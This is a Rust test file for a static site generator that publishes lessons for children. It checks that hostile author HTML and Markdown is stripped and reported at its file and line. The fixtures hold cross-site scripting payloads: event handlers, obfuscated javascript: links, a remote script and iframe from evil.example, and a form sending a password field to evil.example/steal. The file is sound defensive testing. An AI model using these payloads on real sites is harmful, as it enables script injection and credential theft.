//! Hostile content: what an author (careless or malicious) can type must never put active content on
//! a page for children, and the author is told, at the file, line and column, what was removed or
//! refused. Each test writes hostile text into a copy of the fixture site and runs the real binary.
//! docs/reliability.md ("Hostile content") lists the cases.

mod common;

use common::{html_pages, tags, Diag, Site};

/// Where `needle` first appears in `text`: 1-based line.
fn line_of(text: &str, needle: &str) -> usize {
    let i = text.find(needle).unwrap_or_else(|| panic!("`{needle}` not in the text"));
    text[..i].matches('\n').count() + 1
}

/// A URL as a browser reads its scheme: without ASCII whitespace or controls, lowercased.
fn scheme_of(url: &str) -> String {
    let s: String = url.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control()).collect();
    s.to_ascii_lowercase()
}

/// Every piece of active content in a built page: scripts other than our own files and JSON islands,
/// event handlers, script/data URLs, embedded documents, forms sending elsewhere, refreshes, styles.
fn active_content(html: &str) -> Vec<String> {
    let mut bad = Vec::new();
    for t in tags(html) {
        let name = t.name.as_str();
        match name {
            "script" => {
                let ours =
                    t.get("src").is_some_and(|s| s.contains("assets/")) || t.get("type") == Some("application/json");
                if !ours {
                    bad.push(format!("{t:?}"));
                }
            }
            // The theme's own icons are inline SVG (`class="icon …"`); an author's SVG never survives cleaning.
            "svg" if t.get("class").is_some_and(|c| c.split(' ').any(|c| c == "icon")) => {}
            "iframe" | "frame" | "object" | "embed" | "applet" | "base" | "svg" | "math" | "style" => {
                bad.push(format!("{t:?}"))
            }
            // The page's own Content-Security-Policy is the one `http-equiv` allowed.
            "meta" if t.get("http-equiv").is_some_and(|v| !v.eq_ignore_ascii_case("content-security-policy")) => {
                bad.push(format!("{t:?}"))
            }
            // Our search form sends to the site's own search page; a form must never send elsewhere.
            "form" if t.get("action").is_some_and(|a| a.contains(':') || a.starts_with("//")) => {
                bad.push(format!("{t:?}"))
            }
            _ => {}
        }
        for (attr, value) in &t.attrs {
            if attr.starts_with("on") {
                bad.push(format!("<{name} {attr}>"));
            }
            let url_attr =
                matches!(attr.as_str(), "href" | "src" | "action" | "formaction" | "data" | "poster" | "xlink:href");
            let s = scheme_of(value);
            if url_attr && ["javascript:", "vbscript:", "data:"].iter().any(|x| s.starts_with(x)) {
                bad.push(format!("<{name} {attr}={value:?}>"));
            }
        }
    }
    // Text of a removed script must be gone too.
    if html.contains("PWNED") {
        bad.push("the text PWNED".into());
    }
    bad
}

/// Asserts that no page of the built site has active content.
fn assert_site_is_inert(site: &Site) {
    let pages = html_pages(&site.public());
    assert!(pages.len() > 10, "the site was not built");
    for (path, html) in &pages {
        let mut bad = active_content(html);
        if path == "404.html" {
            // The theme's own script and style, which let the page find the site's root from any depth
            // (docs/theme.md, "The 404 page"); no author text reaches this page.
            bad.retain(|b| !b.contains("name: \"style\"") && !b.contains("name: \"script\""));
        }
        assert!(bad.is_empty(), "active content in {path}: {bad:#?}");
    }
}

/// The diagnostics of `check --format json` with `code`, as (line, message).
fn found(diags: &[Diag], code: &str, file: &str) -> Vec<(usize, String)> {
    diags.iter().filter(|d| d.code == code && d.file == file).map(|d| (d.line, d.message.clone())).collect()
}

/// Asserts that one `code` diagnostic at `line` of `file` mentions `what`, and has a hint and a column.
fn reported(diags: &[Diag], code: &str, file: &str, line: usize, what: &str) {
    let hit = diags.iter().find(|d| d.code == code && d.file == file && d.line == line && d.message.contains(what));
    let d =
        hit.unwrap_or_else(|| panic!("no {code} about `{what}` at {file}:{line}; got {:#?}", found(diags, code, file)));
    assert!(d.column > 0, "{d:?} has no column");
    assert!(d.hint.as_deref().is_some_and(|h| !h.is_empty()), "{d:?} has no hint");
}

/// All diagnostics, errors and warnings alike.
fn all(site: &Site) -> (i32, Vec<Diag>) {
    let (run, mut diags) = site.check_json();
    diags.extend(run.advice());
    (run.code, diags)
}

const LESSON: &str = "content/thcs/doc-hai.md";

/// A lesson body with raw HTML of every hostile kind the review found, one per line.
const HOSTILE_BODY: &str = r#"---
title: Bài thử
order: 9
duration: 10
---

## Phần một

Nhấn <kbd>Ctrl</kbd> rồi <span onclick="alert('PWNED')">đây</span>.

<script>alert("PWNED")</script>

<SCRIPT SRC="https://evil.example/x.js"></script>

<img src="hinh/khong-co.png" onerror="alert('PWNED')" alt="ảnh">

<svg onload="alert('PWNED')"><circle r="4"/></svg>

<a href=" JaVaScRiPt:alert('PWNED')">một</a> <a href="&#106;avascript:alert('PWNED')">hai</a> <a href="java&#x09;script:alert('PWNED')">ba</a>

<a href="vbscript:msgbox(1)">bốn</a> <a href="data:text/html,PWNED">năm</a>

<iframe src="https://evil.example/"></iframe>

<object data="x.swf"></object><embed src="x.swf">

<form action="https://evil.example/steal"><input name="mat-khau"><button>Gửi</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<style>body { display: none }</style>

<base href="https://evil.example/">

<h2 onmouseover="alert('PWNED')">Tiêu đề HTML</h2>

<details>
<summary>Gợi ý</summary>

Một **đoạn** Markdown bên trong.

</details>

<table><tr><th scope="col">Việc</th></tr><tr><td>Hỏi cha mẹ</td></tr></table>

::: tip
Mẹo: nhấn <kbd>Tab</kbd>.
:::

```js
const the = "<script>PWN" + "ED</script>";
```

```quiz
questions:
  - q: Mật khẩu là bí mật?
    answer: true
```
"#;

#[test]
fn raw_html_in_a_lesson_is_cleaned_and_every_removal_is_reported_where_it_is() {
    let site = Site::new();
    site.write(LESSON, HOSTILE_BODY);
    let (code, diags) = all(&site);
    assert_eq!(code, 0, "cleaning is not an error: {diags:#?}");
    let t = HOSTILE_BODY;
    for (needle, what) in [
        ("<span onclick", "`onclick` of `<span>`"),
        ("<script>alert", "`<script>` and its content"),
        ("<SCRIPT SRC", "`<script>` and its content"),
        ("onerror=", "`onerror` of `<img>`"),
        ("<svg onload", "`<svg>` and its content"),
        ("JaVaScRiPt:", "JaVaScRiPt:alert"),
        ("JaVaScRiPt:", "href=\"javascript:alert"),
        ("JaVaScRiPt:", "java\tscript"),
        ("vbscript:", "vbscript:msgbox"),
        ("vbscript:", "data:text/html"),
        ("<iframe", "`<iframe>`"),
        ("<object", "`<object>`"),
        ("<object", "`<embed>`"),
        ("<form", "`<form>`"),
        ("<form", "`<input>`"),
        ("<form", "`<button>`"),
        ("<meta", "`<meta>`"),
        ("<style>", "`<style>`"),
        ("<base", "`<base>`"),
        ("<h2 onmouseover", "`onmouseover` of `<h2>`"),
    ] {
        reported(&diags, "W010", LESSON, line_of(t, needle), what);
    }
    // Nothing allowed was reported: details, summary, kbd, table, th scope.
    let w010 = found(&diags, "W010", LESSON);
    assert_eq!(w010.len(), 20, "{w010:#?}");

    site.build_ok();
    assert_site_is_inert(&site);
    let page = site.out("thcs/doc-hai/index.html");
    for kept in [
        "<kbd>Ctrl</kbd>",
        "<details>",
        "<summary>Gợi ý</summary>",
        "<strong>đoạn</strong>",
        "<th scope=\"col\">Việc</th>",
        "<img src=\"hinh/khong-co.png\" alt=\"ảnh\">",
        "<h2>Tiêu đề HTML</h2>",
        // hoclieu's own markup on the same page is untouched: callout, highlighted code, quiz form and data.
        "<aside class=\"callout callout-tip\" role=\"note\">",
        "Mẹo: nhấn <kbd>Tab</kbd>.",
        "&lt;script&gt;PWN",
        "data-quiz-key=\"thcs/doc-hai#1\"",
        "<script type=\"application/json\" class=\"quiz-data\">{\"key\":\"thcs/doc-hai#1\"",
    ] {
        assert!(page.contains(kept), "`{kept}` was lost:\n{page}");
    }
    assert!(!page.contains("evil.example"), "{page}");
}

#[test]
fn script_data_and_vbscript_links_in_markdown_are_refused_at_their_line() {
    let site = Site::new();
    let text = "---\ntitle: Bài thử\norder: 9\n---\n\n\
                [một](javascript:alert(1)) and [hai](JAVASCRIPT:alert(1))\n\n\
                [ba](   javascript:alert(1))\n\n\
                [bốn][r]\n\n\
                [r]: vbscript:msgbox(1)\n\n\
                <data:text/html,hi>\n\n\
                ![năm](data:image/png;base64,AAAA)\n\n\
                [sáu](&#106;avascript:alert(1))\n\n\
                ## Tiêu đề [bảy](javascript:alert(1))\n\n\
                [tám](javascript://javascript:a)\n";
    site.write(LESSON, text);
    let (code, diags) = all(&site);
    assert_eq!(code, 1, "a script link is an error: {diags:#?}");
    for (needle, scheme) in [
        ("[một]", "javascript"),
        ("[hai]", "javascript"),
        ("[ba]", "javascript"),
        ("[bốn]", "vbscript"),
        ("<data:", "data"),
        ("![năm]", "data"),
        ("[sáu]", "javascript"),
        ("## Tiêu đề", "javascript"),
        // Found by the property tests: not a valid URL, refused all the same.
        ("[tám]", "javascript"),
    ] {
        reported(&diags, "E026", LESSON, line_of(text, needle), &format!("`{scheme}:`"));
    }
    assert!(diags.iter().all(|d| d.severity == "error" || d.code != "E026"));
}

#[test]
fn markdown_heading_attributes_cannot_add_event_handlers() {
    let site = Site::new();
    let text = "---\ntitle: Bài thử\norder: 9\n---\n\n## Tiêu đề {#muc .noi-bat OnClick=alert('PWNED') style=color:red data-x=1}\n";
    site.write(LESSON, text);
    let (code, diags) = all(&site);
    assert_eq!(code, 0, "{diags:#?}");
    reported(&diags, "W010", LESSON, 6, "`OnClick`");
    reported(&diags, "W010", LESSON, 6, "`style`");
    site.build_ok();
    let page = site.out("thcs/doc-hai/index.html");
    assert!(page.contains("<h2 id=\"muc\" class=\"noi-bat\" data-x=\"1\">Tiêu đề</h2>"), "{page}");
    assert!(active_content(&page).is_empty());
}

#[test]
fn objectives_show_html_as_text_and_refuse_script_links() {
    let site = Site::new();
    let text = "---\ntitle: Bài thử\norder: 9\nobjectives:\n  - Em biết thẻ <script>alert('PWNED')</script> nguy hiểm.\n  - Em không bấm [liên kết lạ](javascript:alert(1)).\n---\n\nNội dung.\n";
    site.write(LESSON, text);
    let (code, diags) = all(&site);
    assert_eq!(code, 1, "{diags:#?}");
    reported(&diags, "W011", LESSON, 5, "`<script>`");
    reported(&diags, "E026", LESSON, 6, "`javascript:`");

    // With the link gone, the lesson builds and shows the tag as text.
    site.write(LESSON, &text.replace("[liên kết lạ](javascript:alert(1))", "liên kết lạ"));
    site.build_ok();
    let page = site.out("thcs/doc-hai/index.html");
    assert!(page.contains("Em biết thẻ &lt;script&gt;"), "{page}");
    let stripped = page.replace("alert('PWNED')", "");
    assert!(active_content(&stripped).is_empty());
    assert!(!page.contains("<script>alert"), "{page}");
}

const SESSION: &str = "content/thcs/buoi-ngoai-khoa-2026-2027.md";

#[test]
fn session_fields_show_html_as_text_and_refuse_script_links() {
    let site = Site::new();
    site.edit(
        SESSION,
        "    lesson: bat-nat\n",
        "    lesson: bat-nat\n    notes: Đọc [hướng dẫn](  vbscript:msgbox(1)) trước.\n",
    );
    site.edit(SESSION, "materials:", "preparation:\n  - <img src=x onerror=alert(1)> máy chiếu\nmaterials:");
    let text = site.read(SESSION);
    let (code, diags) = all(&site);
    assert_eq!(code, 1, "{diags:#?}");
    reported(&diags, "E026", SESSION, line_of(&text, "notes:"), "`vbscript:`");
    reported(&diags, "W011", SESSION, line_of(&text, "<img src=x"), "`<img");

    site.edit(SESSION, "[hướng dẫn](  vbscript:msgbox(1))", "hướng dẫn");
    site.build_ok();
    assert_site_is_inert(&site);
    let shown = html_pages(&site.public()).values().any(|h| h.contains("&lt;img src=x onerror=alert(1)&gt; máy chiếu"));
    assert!(shown, "the preparation is not shown as text in a teacher guide");
}

#[test]
fn parents_and_teacher_blocks_level_and_plain_pages_are_cleaned_too() {
    let site = Site::new();
    site.edit(
        "content/thcs/tin-gia.md",
        "MARKER-PARENTS-TIN-GIA: cùng con đọc một tin và hỏi ai viết.\n",
        "MARKER-PARENTS-TIN-GIA: cùng con đọc một tin và hỏi ai viết.\n\n<a href=\"javascript:alert('PWNED')\">bấm</a> <img src=x onerror=\"alert('PWNED')\" alt=\"x\">\n",
    );
    site.edit(
        "content/thcs/tin-gia.md",
        "MARKER-TEACHER-TIN-GIA: chuẩn bị ba bài báo mẫu.\n",
        "MARKER-TEACHER-TIN-GIA: chuẩn bị ba bài báo mẫu.\n\n<script>alert('PWNED')</script>\n",
    );
    site.edit("content/thcs/_index.md", "Các bài của cấp THCS.", "Các bài của cấp THCS. <b onclick=\"alert('PWNED')\">đậm</b>\n\n<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">");
    let page = site.read("content/tro-giup.md");
    site.write("content/tro-giup.md", &format!("{page}\n<iframe src=\"https://evil.example/\"></iframe>\n"));
    let (code, diags) = all(&site);
    assert_eq!(code, 0, "{diags:#?}");
    let lesson = site.read("content/thcs/tin-gia.md");
    reported(&diags, "W010", "content/thcs/tin-gia.md", line_of(&lesson, "<a href=\"javascript"), "javascript:");
    reported(&diags, "W010", "content/thcs/tin-gia.md", line_of(&lesson, "<img src=x"), "`onerror`");
    reported(&diags, "W010", "content/thcs/tin-gia.md", line_of(&lesson, "<script>"), "`<script>`");
    let level = site.read("content/thcs/_index.md");
    reported(&diags, "W010", "content/thcs/_index.md", line_of(&level, "<b onclick"), "`onclick`");
    reported(&diags, "W010", "content/thcs/_index.md", line_of(&level, "<meta"), "`<meta>`");
    let page = site.read("content/tro-giup.md");
    reported(&diags, "W010", "content/tro-giup.md", line_of(&page, "<iframe"), "`<iframe>`");

    site.build_ok();
    assert_site_is_inert(&site);
    // The blocks are still there, cleaned, on the pages that gather them.
    let pages = html_pages(&site.public());
    let with =
        |marker: &str| pages.iter().filter(|(_, h)| h.contains(marker)).map(|(p, _)| p.clone()).collect::<Vec<_>>();
    assert!(
        with("MARKER-PARENTS-TIN-GIA").iter().any(|p| p.starts_with("cha-me/")),
        "{:?}",
        with("MARKER-PARENTS-TIN-GIA")
    );
    assert!(!with("MARKER-TEACHER-TIN-GIA").is_empty());
}

#[test]
fn a_quiz_answer_with_comment_and_script_text_cannot_swallow_the_page() {
    let site = Site::new();
    let text = "---\ntitle: Bài thử\norder: 9\n---\n\n```quiz\nquestions:\n  - q: Gõ thẻ mở đầu chú thích\n    type: text\n    accept: [\"<!--\", \"<script>\", \"</script>\", \"a\u{2028}b\"]\n```\n\nĐOẠN-CUỐI-BÀI\n";
    site.write(LESSON, text);
    site.build_ok();
    let page = site.out("thcs/doc-hai/index.html");
    // Every JSON island holds no `<`, `>`, `&` or U+2028 and is valid JSON with the same answers.
    let mut islands = 0;
    let mut rest = page.as_str();
    while let Some(i) = rest.find("<script type=\"application/json\"") {
        let body = &rest[i..];
        let open_end = body.find('>').unwrap() + 1;
        let close = body.find("</script>").unwrap();
        let json = &body[open_end..close];
        for bad in ['<', '>', '&', '\u{2028}'] {
            assert!(!json.contains(bad), "{bad:?} in a JSON island: {json}");
        }
        let v: serde_json::Value = serde_json::from_str(json).expect("a JSON island is JSON");
        if json.contains("accept") {
            assert_eq!(v["questions"][0]["accept"][0], "<!--");
            assert_eq!(v["questions"][0]["accept"][2], "</script>");
        }
        islands += 1;
        rest = &body[close..];
    }
    assert!(islands >= 2, "the quiz and UI-string islands");
    // The page goes on after the quiz: the text after it and the page's end are outside any script.
    assert!(page.contains("ĐOẠN-CUỐI-BÀI"));
    assert!(page.trim_end().ends_with("</html>"));
    assert!(active_content(&page).is_empty());
}

#[test]
fn quiz_fields_refuse_script_links_and_show_html_as_text() {
    let site = Site::new();
    let text = "---\ntitle: Bài thử\norder: 9\n---\n\n```quiz\nquestions:\n  - q: Chọn <b>một</b>\n    options:\n      - text: \"[đây](javascript:alert(1))\"\n        correct: true\n      - text: Không\n```\n";
    site.write(LESSON, text);
    let (code, diags) = all(&site);
    assert_eq!(code, 1, "{diags:#?}");
    reported(&diags, "E026", LESSON, 10, "`javascript:`");
    reported(&diags, "W011", LESSON, 8, "`<b>`");
}

#[test]
fn a_question_with_27_options_is_an_error_at_the_question_not_a_template_error() {
    let site = Site::new();
    let mut quiz = String::from("```quiz\nquestions:\n  - q: Chọn chữ cái đầu tiên\n    options:\n");
    for i in 0..27 {
        quiz.push_str(&format!("      - text: Lựa chọn {i}\n"));
        if i == 0 {
            quiz.push_str("        correct: true\n");
        }
    }
    quiz.push_str("```\n");
    site.write(LESSON, &format!("---\ntitle: Bài thử\norder: 9\n---\n\n{quiz}"));
    let (code, diags) = all(&site);
    assert_eq!(code, 1, "{diags:#?}");
    reported(&diags, "Q014", LESSON, 8, "27 options");
    assert!(!diags.iter().any(|d| d.code == "E093"), "{diags:#?}");
    let run = site.build();
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("Q014") && !run.stderr.contains("E093"), "{}", run.stderr);
}

#[test]
fn a_match_question_with_27_pairs_is_an_error_too() {
    let site = Site::new();
    let mut quiz = String::from("```quiz\nquestions:\n  - q: Nối\n    type: match\n    pairs:\n");
    for i in 0..27 {
        quiz.push_str(&format!("      - [trái {i}, phải {i}]\n"));
    }
    quiz.push_str("```\n");
    site.write(LESSON, &format!("---\ntitle: Bài thử\norder: 9\n---\n\n{quiz}"));
    let (code, diags) = all(&site);
    assert_eq!(code, 1, "{diags:#?}");
    reported(&diags, "Q014", LESSON, 8, "27 pairs");
}

#[test]
fn trusted_html_publishes_raw_html_as_written_and_check_warns() {
    let site = Site::new();
    site.write(LESSON, "---\ntitle: Bài thử\norder: 9\n---\n\n<span onclick=\"toggle()\">bấm</span>\n");
    site.edit("hoclieu.yaml", "language: vi\n", "language: vi\ntrusted_html: true\n");
    let (code, diags) = all(&site);
    assert_eq!(code, 0, "{diags:#?}");
    reported(&diags, "W012", "hoclieu.yaml", 4, "trusted_html");
    assert!(found(&diags, "W010", LESSON).is_empty());
    site.build_ok();
    assert!(site.out("thcs/doc-hai/index.html").contains("<span onclick=\"toggle()\">bấm</span>"));

    // Markdown links are still refused: trust covers raw HTML only.
    site.write(LESSON, "---\ntitle: Bài thử\norder: 9\n---\n\n[x](javascript:alert(1))\n");
    let (code, diags) = all(&site);
    assert_eq!(code, 1);
    reported(&diags, "E026", LESSON, 6, "javascript:");
}

#[test]
fn check_warns_about_other_sites_images_and_lists_links_to_review() {
    let site = Site::new();
    let text = "---\ntitle: Bài thử\norder: 9\n---\n\n![ảnh](https://anh.example/a.png)\n\n<img src=\"//anh.example/b.png\" alt=\"b\">\n\nXem [trang này](https://tin.example/bai) và <a href=\"http://khac.example/\">kia</a>.\n\n```quiz\nquestions:\n  - q: Ảnh gì?\n    image: https://anh.example/c.png\n    alt: c\n    answer: true\n```\n";
    site.write(LESSON, text);
    let (code, diags) = all(&site);
    assert_eq!(code, 0, "{diags:#?}");
    reported(&diags, "W013", LESSON, 6, "https://anh.example/a.png");
    reported(&diags, "W013", LESSON, 8, "//anh.example/b.png");
    reported(&diags, "W013", LESSON, 15, "https://anh.example/c.png");
    let run = site.run(&["check"]);
    assert!(run.stderr.contains("Links to other sites"), "{}", run.stderr);
    assert!(run.stderr.contains("content/thcs/doc-hai.md:10  https://tin.example/bai"), "{}", run.stderr);
    assert!(run.stderr.contains("content/thcs/doc-hai.md:10  http://khac.example/"), "{}", run.stderr);
}

// ---- Crashes found by review and property tests: each is a diagnostic with a location, exit 1. ----

/// `check` and `build` fail with an error at `file:line`, and do not panic. (`code` is the one
/// expected; any error code there is accepted, the core may choose a more precise one.)
fn fails_cleanly(site: &Site, code: &str, file: &str, line: usize) {
    for args in [&["check", "--format", "json"][..], &["build"][..]] {
        let run = site.run(args);
        assert_eq!(run.code, 1, "`{}` should exit 1, got {}:\n{}", args[0], run.code, run.stderr);
        assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    }
    let (_, diags) = all(site);
    assert!(
        diags.iter().any(|d| d.severity == "error" && d.file == file && d.line == line),
        "no error (such as {code}) at {file}:{line}: {diags:#?}"
    );
}

#[test]
fn a_level_with_empty_grades_is_an_error_not_a_crash() {
    let site = Site::new();
    site.edit("content/thcs/_index.md", "grades: [6, 9]", "grades: []");
    fails_cleanly(&site, "E016", "content/thcs/_index.md", 4);
}

#[test]
fn a_session_with_empty_grades_is_an_error_not_a_crash() {
    let site = Site::new();
    site.edit(SESSION, "duration: 45\n", "duration: 45\ngrades: []\n");
    fails_cleanly(&site, "E016", SESSION, 5);
}

#[test]
fn a_link_with_a_broken_percent_escape_before_a_multibyte_letter_is_an_error_not_a_crash() {
    let site = Site::new();
    site.write(LESSON, "---\ntitle: Bài thử\norder: 9\n---\n\n[xem](%aé.md)\n");
    fails_cleanly(&site, "E020", LESSON, 6);
}
